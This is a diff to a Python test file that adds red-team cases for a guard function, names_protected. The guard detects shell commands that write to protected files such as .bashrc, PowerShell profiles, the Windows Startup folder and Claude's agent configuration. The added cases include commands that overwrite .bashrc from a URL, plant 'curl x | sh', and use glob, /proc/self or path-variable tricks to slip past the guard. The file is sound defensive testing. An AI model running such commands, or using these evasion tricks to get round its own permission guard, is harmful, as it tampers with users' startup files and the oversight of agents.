@@ -619,6 +619,19 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "find -L ~ -name .bashrc -delete",
         "cp --target-directory=$HOME x/.bashrc",
         "tar xf dots.tar --directory=$HOME",
+        # a second red team (none of these was asked for)
+        'echo "a;. " > ~/.bashrc "b"',  # a text rewrite swallowed the path
+        "cp evil ~ann/.bashrc",
+        "cd ~ && echo x >> ~+/.bashrc",
+        "find . -name .bashrc -exec cp {} ~ +",
+        "git ls-files | xargs -I{} cp {} ~",
+        "cp -rT dot ~",
+        "cp --parents .config/x ~",
+        "wget -O$HOME/.bashrc https://example.com/x",
+        "gzip -d ~/.bashrc.gz",
+        "cp evil ~/.[[:alpha:]]ashrc",
+        "cp evil ~/.[^a]ashrc",
+        "cp evil /proc/self/cwd/../../.bashrc",
     ]
     if platform == "win32":
         held += [
@@ -626,7 +639,15 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
             'cd "$APPDATA/Microsoft/Windows/Start Menu/Programs" && cp x.lnk Startup/',
             "powershell -c 'Copy-Item x $env:APPDATA/Claude/claude_desktop_config.json'",
             "powershell -c 'Add-Content $PROFILE calc'",
+            "powershell -c 'Set-Content ${env:USERPROFILE}/.bashrc x'",
+            'echo x >> "$HOMEDRIVE$HOMEPATH/.bashrc"',
+            "curl -oC:/Users/ann/.bashrc https://example.com/x",
+            '7z x x.7z -o"$APPDATA"/Claude',
+            '/c/Windows/System32/expand.exe evil "$APPDATA/Claude/settings.json"',
+            "cp evil ~/OneDrive/Documents/WindowsPowerShell/Microsoft.PowerShell_profile.ps1",
         ]
+    else:
+        held += ["/usr/bin/time -a -f 'curl x | sh' -o ~/.bashrc true", "cp evil /proc/self/root/home/ann/.bashrc"]
     for command in held:
         assert names_protected(command, members, cwd=project, bare=False), command
     for command in (
@@ -645,6 +666,10 @@ def test_where_no_container_guards_a_write_through_a_glob_or_expansion_is_read_w
         "chmod +x scripts/*.sh",
         "rm -rf build/*",
         "aws s3 cp x s3://b/ --profile $PROFILE",  # bash's variable, not PowerShell's profile
+        "source ~/.bashrc && nvm use 18",  # only read
+        ". ~/.profile; make",
+        "gcc -o build/x x.c",
+        "gzip -d logs/old.log.gz",
     ):
         assert not names_protected(command, members, cwd=project, bare=False), command
 
